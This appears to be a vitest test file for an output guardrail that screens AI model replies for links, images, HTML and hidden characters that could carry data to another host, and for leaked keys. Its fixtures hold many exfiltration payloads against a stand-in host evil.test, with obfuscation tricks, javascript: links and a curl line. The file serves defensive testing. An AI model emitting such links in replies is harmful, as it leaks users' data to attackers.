import { describe, expect, it } from 'vitest';
import { isRefusal } from '#core';
import { createTextScreen } from '#guardrails';
import { policy, screenChunks, screenText } from './fixtures.ts';

const key = ['sk', 'proj', 'abcdefghijklmnopqrstuvwx'].join('-');
const tag = (message: string): string => [...message].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
const DATA = 'c2VjcmV0IGRhdGE';

describe('a reply with an address that could carry data away', () => {
  it.each<[string, string, string]>([
    ['a Markdown image', `Hi ![cat](https://evil.test/p.png?d=${DATA})!`, 'Hi cat [image removed]!'],
    ['an image without description', `![](https://evil.test/${DATA})`, '[image removed]'],
    ['an image with a plain address of another host', '![cat](https://evil.test/cat.png)', 'cat [image removed]'],
    ['an image with its address in angle brackets', `![cat](<https://evil.test/?d=${DATA} x>)`, 'cat [image removed]'],
    ['an image over several lines', `![cat](\n  https://evil.test/?d=${DATA}\n  "title")`, 'cat [image removed]'],
    [
      'an image within a link',
      `[![cat](https://evil.test/?d=${DATA})](https://shop.example.com/a)`,
      '[cat [image removed]](https://shop.example.com/a)',
    ],
    ['an image whose description is too long', `![${'x'.repeat(600)}](https://evil.test/cat.png)`, `![${'x'.repeat(600)}] [image removed]`],
    ['an image by reference', `![cat][c]\n\n[c]: https://evil.test/?d=${DATA} "t"\n`, '![cat][c]\n\n[c] [link removed] "t"\n'],
    ['a reference over two lines', `![cat][c]\n\n[c]:\n   https://evil.test/cat.png\n`, '![cat][c]\n\n[c] [link removed]\n'],
    ['a reference in a quote', `> [c]: <//evil.test/cat.png>\n`, '> [c] [link removed]\n'],
    ['a Markdown link', `[here](https://evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a link with spaces that only lenient readers take', `[here](https://evil.test/?d=a b c)`, '[here] [link removed]'],
    ['a link without a scheme', `[here](//evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a link with more slashes', `[here](////evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a link with backslashes', `[here](https:\\\\evil.test\\?d=${DATA})`, '[here] [link removed]'],
    ['a link with slash and backslash', `[here](/\\evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['an escaped colon', `[here](https\\://evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['an encoded colon', `[here](https&colon;//evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a tab within the scheme', `[here](<ht\ttps://evil.test/?d=${DATA}>)`, '[here] [link removed]'],
    ['a zero-width character within the scheme', `[here](ht\u200btps://evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['a user name that looks like the shop', `[here](https://shop.example.com@evil.test/)`, '[here] [link removed]'],
    ['a user name behind a backslash', `[here](https://evil.test\\@shop.example.com/?d=${DATA})`, '[here] [link removed]'],
    ['the shop as a subdomain of another host', `[here](https://shop.example.com.evil.test/?d=${DATA})`, '[here] [link removed]'],
    ['the shop on another port', `[here](https://shop.example.com:444/?d=${DATA})`, '[here] [link removed]'],
    ['a percent-encoded host', `[here](https://%73hop.example.com/?d=${DATA})`, '[here] [link removed]'],
    ['a full-width dot in the host', '[here](https://evil。test/)', '[here] [link removed]'],
    ['a full-width host', '[here](https://ｅｖｉｌ.test/)', '[here] [link removed]'],
    ['a look-alike host', '[here](https://shор.example.com/)', '[here] [link removed]'],
    ['a punycode host', '[here](https://xn--80ak6aa92e.com/)', '[here] [link removed]'],
    ['an address by number', '[here](https://203.0.113.7/)', '[here] [link removed]'],
    ['data in the path', `[here](https://evil.test/${DATA})`, '[here] [link removed]'],
    ['hexadecimal data in the path', '[here](https://evil.test/5ec2e7d0)', '[here] [link removed]'],
    ['data in a host label', `[here](https://${DATA.toLowerCase()}x0x1x2x3x4.evil.test/)`, '[here] [link removed]'],
    ['data in the fragment', '[here](https://evil.test/#abc)', '[here] [link removed]'],
    ['percent-encoded data', '[here](https://evil.test/a%20b)', '[here] [link removed]'],
    ['a script', '[here](javascript:alert(1))', '[here] [link removed]'],
    ['a script with an encoded letter', '[here](&#106;avascript:alert(1))', '[here] [link removed]'],
    ['a script with a line break', '[here](java\nscript:alert(1))', '[here] [link removed]'],
    ['an embedded document', '[here](data:text/html;base64,PHNjcmlwdD4=)', '[here] [link removed]'],
    ['an embedded image', '![cat](data:image/png;base64,AAAA)', 'cat [image removed]'],
    ['a message filled in', '[here](mailto:a@evil.test?body=secret)', '[here] [link removed]'],
    ['an autolink', `<https://evil.test/?d=${DATA}>`, '[link removed]'],
    ['a bare address', `See https://evil.test/?d=${DATA}, please.`, 'See [link removed], please.'],
    ['a bare address in capitals', `See HTTPS://EVIL.TEST/?D=${DATA} please.`, 'See [link removed] please.'],
    ['a bare address in emphasis', `**https://evil.test/?d=${DATA}**`, '**[link removed]**'],
    ['a bare address behind a word', `seehttps://evil.test/?d=${DATA}`, 'seehttps[link removed]'],
    ['a bare address in JSON spelling', `"https:\\/\\/evil.test\\/?d=${DATA}"`, '"[link removed]"'],
    ['a quote that greedy readers take along', `https://evil.test/"?d=${DATA}`, `[link removed]"?d=${DATA}`],
    ['www without a scheme', `www.evil.test/?d=${DATA}`, '[link removed]'],
    ['a host without a scheme', `evil.com/${DATA}`, 'evil.com[link removed]'],
    ['a host with a query', `evil.com?d=${DATA} x`, 'evil.com[link removed] x'],
    ['another scheme', `ftp://evil.test/${DATA}`, 'ftp[link removed]'],
    ['an address behind a bracket nobody opened', `https://evil.test/](${DATA}`, `[link removed]](${DATA}`],
    ['an image tag', `<img src="https://evil.test/?d=${DATA}" alt="A cat">`, 'A cat [image removed]'],
    ['an image tag without quotes', `<IMG SRC=//evil.test/${DATA}>`, '[image removed]'],
    ['an image tag with an encoded address', `<img src="&#104;ttps&colon;&sol;&sol;evil.test/?d=${DATA}">`, '[image removed]'],
    ['an image tag with slashes for spaces', `<img/src=https://evil.test/${DATA}/>`, '[image removed]'],
    ['one of several sources', '<img srcset="https://shop.example.com/a 1x, https://evil.test/b 2x">', '[image removed]'],
    ['a frame', `<iframe src="https://evil.test/?d=${DATA}"></iframe>`, '[markup removed]</iframe>'],
    ['a drawing', `<svg><image href="//evil.test/${DATA}"/></svg>`, '<svg>[image removed]</svg>'],
    ['a drawing with the old attribute', `<svg><use xlink:href="https://evil.test/${DATA}"/></svg>`, '<svg>[markup removed]</svg>'],
    ['a style with an address', `<p style="background:url('https://evil.test/?d=${DATA}')">x</p>`, '[markup removed]x</p>'],
    ['a style with an escape', '<p style="background:\\75rl(https://evil.test/x)">x</p>', '[markup removed]x</p>'],
    ['a style sheet', '<style>@import "https://evil.test/x?y";</style>', '[markup removed]@import "[link removed]";'],
    ['a linked style sheet', '<link rel=stylesheet href=https://evil.test/a.css>', '[markup removed]'],
    ['a refresh', `<meta http-equiv=refresh content="0;url=https://evil.test/?d=${DATA}">`, '[markup removed]'],
    ['another base', '<base href="https://evil.test/">', '[markup removed]'],
    [
      'a form',
      '<form action="https://evil.test/"><button formaction="https://evil.test/x?y">ok</button>',
      '[markup removed][markup removed]ok</button>',
    ],
    ['a video poster', `<video poster="https://evil.test/${DATA}"></video>`, '[markup removed]</video>'],
    ['a script element', '<script src="https://shop.example.com/a.js"></script>', '[markup removed]'],
    ['an event handler', '<b onmouseover="steal()">x</b>', '[markup removed]x</b>'],
    ['a link that pings', '<a href="https://shop.example.com/" ping="https://evil.test/x">x</a>', '[link removed]x</a>'],
    ['a link tag', `<a href="https://evil.test/?d=${DATA}">x</a>`, '[link removed]x</a>'],
    ['a tag that never ends', `<img src="https://evil.test/?d=${DATA}`, '<img src="[link removed]'],
    [
      'a tag that is too long',
      `<img title="${'x'.repeat(3000)}" src="//evil.test/?d=${DATA}">`,
      `<img title="${'x'.repeat(3000)}" src="[link removed]">`,
    ],
    ['a handler in a tag that looks like prose', '<x a b c d e onclick=steal()>', '<x a b c d e onclick[markup removed]steal()>'],
    [
      'an address in disguise in a tag that looks like prose',
      '<x a b c d e src="&#47;&#47;evil.test/x?y">',
      '<x a b c d e src[markup removed]"&#47;&#47;evil.test[link removed]">',
    ],
    ['an address in a code block', `\`\`\`\ncurl https://evil.test/?d=${DATA}\n\`\`\`\n`, '```\ncurl [link removed]\n```\n'],
    ['an address in a code span', `\`https://evil.test/?d=${DATA}\``, '`[link removed]`'],
    ['an image after a fence in raw HTML', '<div>\n```\n<img src="https://evil.test/a.png">\n', '<div>\n```\n[image removed]\n'],
    ['an image behind a fence that is none', '```a`b\n![cat](https://evil.test/a.png)\n', '```a`b\ncat [image removed]\n'],
    ['an address longer than the window', `See https://evil.test/${'a'.repeat(5000)} now`, 'See [link removed] now'],
  ])('does not release %s', (_name, text, released) => {
    const outcome = screenText(text);
    expect(outcome.released).toBe(released);
    expect(outcome.code).toBeNull();
    expect(Object.keys(outcome.findings)).not.toEqual([]);
    expect(screenChunks([...text]).released).toBe(released);
  });

  it.each([
    '[here](https://evil.test/?mail=<EMAIL_1>)',
    '![x](https://shop.example.com/?mail=<EMAIL_1>)',
    '[here](https://shop.example.com/?mail=%3CEMAIL_1%3E)',
    'https://shop.example.com/?mail=<EMAIL_1>',
    'https://shop.example.com/[EMAIL_1]',
    '<https://evil.test/[EMAIL_1]>',
    '<img src="https://evil.test/?m=&lt;EMAIL_1&gt;">',
    '[here](mailto:a@evil.test?body=<EMAIL_1>)',
    '[r]: https://evil.test/<EMAIL_1>\n',
    `https://shop.example.com/?k=${key}`,
    `![x](https://evil.test/${key})`,
  ])('is withheld as a whole when the address holds a placeholder or a key: %s', (text) => {
    expect(screenText(text).code).toBe('GUARDRAILS_LINK_CARRIES_DATA');
    const units = screenChunks([...text]);
    expect(units.code).toBe('GUARDRAILS_LINK_CARRIES_DATA');
    expect(units.released).not.toMatch(/EMAIL|[?]k=|evil\.test/);
  });
});

describe('a reply that carries nothing away', () => {
  it.each([
    'Your order #1001 costs 12.50 EUR (incl. VAT): thank you!',
    'Is it ok? Yes/no, and/or 3/4, 10:30, C:\\temp, a::b, what?! https, http: www',
    'See [the mug](https://shop.example.com/products/mug?variant=12&ref=a) and ![photo](https://img.cdn.example.com/a.png?w=200).',
    'Bare https://shop.example.com/a?b=c#d, (https://shop.example.com/x) "https://shop.example.com/y".',
    'You asked about https://partner.example.net/a?b=1&c=2 and [that](https://partner.example.net/a?b=1&c=2).',
    'Read https://en.wikipedia.org/wiki/Coffee or [this](https://www.gov.example/returns-policy) or <https://example.org/>.',
    '[https://other-shop.com/page](https://other-shop.com/page)',
    'Write to help@shop.example.com, [mail us](mailto:help@shop.example.com) or [call](tel:+15550100).',
    '[Section](#returns), [page](/orders/1001?x=1), [file](../a/b.md) and [1] and [ ] todo [x] done',
    'Dear <PERSON_1>, we wrote to <EMAIL_1> and [EMAIL_1].',
    'a < b, c > d, x<y, i <3 you, 5<6>4, a <- b -> c, <=>, <>, Map<string, number>, List<String>, if (a<b && c>d) e();',
    'when x <b and so on the value of a <c is used, unless style or data = something',
    'Use `arr[i](x)`, `<img src="https://other.example.org/a.png">` and ``a ` b``.',
    '```html\n<img src="x.png" onclick="go()">\n<script>if (a < b) { c[d](e); }</script>\n```\nDone.\n',
    '~~~ts\nconst a = b ? c : d; // see https://en.wikipedia.org/wiki/Coffee\n~~~\n',
    '| Item | Price |\n|------|:-----:|\n| [Mug](https://shop.example.com/p/mug?x=1) | 3 < 4 |\n',
    '> quote\n\n1. one\n2. two [^1]\n\n[^1]: A note: see above.\n\n[note]: #later "Later"\n',
    '<b>Bold</b> and <br/> <details><summary>More</summary>Text</details> <table><tr><td style="color:red">x</td></tr></table>',
    'JavaScript: the good parts; data: see below; {"data": 1, "javascript": true}',
    'x.length?1:2, node.js/express, v1.2/3.4, obj.id?a:b, src/index.ts?, file.txt/other',
    'Thanks ❤️ 👩‍👩‍👧 1️⃣ – “Grüße” می‌خواهم 漢字 हिन्दी ok',
    '{"url":"https://en.wikipedia.org/wiki/Coffee","next":"https://shop.example.com/a?b=1","n":[1,2]}',
    '*'.repeat(10),
    '![',
    '[a](',
    '<',
    '</',
    'ht',
    '',
  ])('is released unchanged: %s', (text) => {
    expect(screenText(text)).toEqual({ released: text, code: null, findings: {} });
    expect(screenChunks([...text])).toEqual({ released: text, code: null, findings: {} });
  });

  it('takes out hidden characters and comments, and says so', () => {
    expect(screenText(`Hi${tag('send it')} the\u200b\u200bre <!-- psst -->you`)).toEqual({
      released: 'Hi there you',
      code: null,
      findings: { hidden_text_removed: 10 },
    });
  });

  it('drops a mail link to a placeholder instead of withholding the reply', () => {
    expect(screenText('[write](mailto:<EMAIL_1>)').released).toBe('[write] [link removed]');
  });
});

describe('a reply with a key', () => {
  const pem = ['-----BEGIN', 'PRIVATE KEY-----\nMIIB'].join(' ');

  it.each([`Your key is ${key}.`, `x\n${pem}\n`, `k\u200b${key.slice(0, 3)}\u2060${key.slice(3)}`.replace('k\u200b', '')])(
    'is refused, whole and in pieces, and every call after that',
    (text) => {
      expect(screenText(text).code).toBe('GUARDRAILS_OUTPUT_SECRET');
      const screen = createTextScreen(policy);
      const verdicts = [...text, ' more'].map((unit) => screen.push(unit));
      expect(isRefusal(verdicts.at(-1))).toBe(true);
      expect(screen.end()).toBe(verdicts.at(-1));
    },
  );

  it('releases no character of it but the prefix before it is known', () => {
    expect(screenChunks([...`Your key is ${key}`]).released).toBe('Your key is sk');
  });
});

describe('the hold-back window', () => {
  function heldAfter(text: string): string {
    const screen = createTextScreen(policy);
    const verdict = screen.push(text);
    return isRefusal(verdict) ? text : text.slice(verdict.release.length);
  }

  it('is empty after plain words and holds no more than what could still begin something', () => {
    for (const text of [
      'Hello',
      'Hello ',
      'The price is 12.50',
      'a < b',
      'x = y',
      'it is [1] ',
      'see (that)',
      'a: b',
      'ok.',
      'with',
      'é漢',
    ]) {
      expect([text, heldAfter(text)]).toEqual([text, '']);
    }
    expect(heldAfter('over h')).toBe('h');
    expect(heldAfter('over https:/')).toBe('https:/');
    expect(heldAfter('wow!')).toBe('!');
    expect(heldAfter('a <')).toBe('<');
    expect(heldAfter('see [x]')).toBe(']');
    expect(heldAfter('half \ud83d')).toBe('\ud83d');
  });

  it('lets prose behind an angle bracket go after a few words', () => {
    expect(heldAfter('a <b and then some more words here')).toBe('');
    expect(heldAfter('a <n, which')).toBe('');
  });

  it('is bounded, whatever is begun and never ended', () => {
    for (const start of [
      '![',
      '[a](',
      '<img src="',
      '<!--',
      '`',
      'https://',
      '[r]: ',
      '<a:',
      'data:image/png;base64,',
      '~~~',
      'sk-',
      'eyJ',
    ]) {
      const screen = createTextScreen(policy);
      let released = 0;
      let pushed = 0;
      const push = (text: string): void => {
        const verdict = screen.push(text);
        pushed += text.length;
        if (!isRefusal(verdict)) released += verdict.release.length;
      };
      push(`x ${start}`);
      for (let index = 0; index < 200; index += 1) push('aaaa aaaa ');
      if (start !== 'data:image/png;base64,') expect([start, pushed - released < 2100]).toEqual([start, true]);
    }
  });
});

describe('a hostile reply', () => {
  it.each([
    '![',
    '](',
    '[a]:',
    '<a ',
    '<a b="',
    '<!--',
    '<!',
    '<a:',
    '`',
    '``a',
    '```\n',
    '//a',
    '//a.io/',
    'a/',
    'a.io/',
    'a.io?b=',
    'http://',
    'a:',
    '\\',
    '\\`',
  ])('of nothing but %j is screened in linear time', (part) => {
    const text = part.repeat(Math.ceil(200_000 / part.length));
    expect(screenText(text).code).toBeNull();
    expect(screenChunks(Array(2000).fill(part)).code).toBeNull();
  });
});

describe('a JSON reply', () => {
  it('stays valid JSON with the same values when nothing is wrong', () => {
    const value = {
      a: 'line\n"quoted" \\ / é \ud83d\ude00',
      'k"ey': ['x < y', 1.5, null, true, { b: 'https://shop.example.com/a?b=1' }],
      '': '',
    };
    for (const text of [JSON.stringify(value), JSON.stringify(value, null, 2)]) {
      expect(JSON.parse(screenText(text, 'json').released)).toEqual(value);
      expect(screenChunks([...text], 'json').released).toBe(screenText(text, 'json').released);
    }
  });

  it('is screened string by string, with no escape hiding anything', () => {
    const text =
      '{"a":"\\u0068ttps:\\/\\/evil.test\\/?d=1 \\"q\\"","b":"![x](\\u0068ttps://evil.test/x?d=1)","c":"\\u003cimg src=https://evil.test/x\\u003e"}';
    expect(JSON.parse(screenText(text, 'json').released)).toEqual({
      a: '[link removed] "q"',
      b: 'x [image removed]',
      c: '[image removed]',
    });
  });

  it('lets no construct run on from one string into the next', () => {
    const text = '{"a":"![x](https://evil.test/","b":"secret)"}';
    expect(screenText(text, 'json').released).toBe('{"a":"![x]([link removed]","b":"secret)"}');
    expect(screenText('["<img src=\'https://evil.test/","secret\'>"]', 'json').released).not.toContain('evil.test');
  });

  it('is screened as text when it turns out to be none', () => {
    expect(screenText('Sure: ![x](https://evil.test/a.png)', 'json').released).toBe('Sure: x [image removed]');
    expect(screenText('{"a":1} ![x](https://evil.test/a.png)', 'json').released).toContain('x [image removed]');
    expect(screenText('{"a":"\\q ![x](https://evil.test/a.png)"}', 'json').released).toContain('x [image removed]');
  });

  it('is refused for a key or a placeholder in an address', () => {
    expect(screenText(`{"a":"${key}"}`, 'json').code).toBe('GUARDRAILS_OUTPUT_SECRET');
    expect(screenText('{"a":"https://evil.test/?m=\\u003cEMAIL_1\\u003e"}', 'json').code).toBe('GUARDRAILS_LINK_CARRIES_DATA');
  });
});
